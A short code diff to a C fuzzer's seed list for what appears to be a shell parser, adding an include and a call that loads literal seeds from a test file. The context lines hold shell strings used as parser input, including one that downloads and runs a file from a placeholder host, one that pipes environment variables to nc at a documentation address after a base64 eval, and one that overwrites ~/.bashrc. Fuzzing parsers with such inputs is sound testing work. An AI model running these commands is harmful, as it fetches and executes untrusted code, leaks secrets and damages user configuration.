@@ -5,6 +5,7 @@
 #include "fuzz.h"
 
 #include "read/sh_int.h"
+#include "tool_seeds.h"
 
 struct seen {
 	struct read_out out; /* first */
@@ -115,6 +116,7 @@ static void seed(void (*run)(const void *bytes, size_t n), const char *old, cons
 
 void fuzz_seeds(void (*run)(const void *bytes, size_t n))
 {
+	literal_seeds("12", "read/test_sh.c", run);
 	seed(run, NULL, "curl -fsSLo a https://c.example/a && chmod +x a && ./a || true\n");
 	seed(run, NULL, "a=(x y); b=${a[1]:0:1}; eval \"$(echo Y2F0 | base64 -d)\" <<< $b; f() { env | nc 192.0.2.9 1; }; f\n");
 	seed(run, NULL, "cat <<-'E' > ~/.bashrc\n\tx\n\tE\nfor i in {a,b}; do read x < <(tr a-z n-za-m); done &> /dev/null &\n");
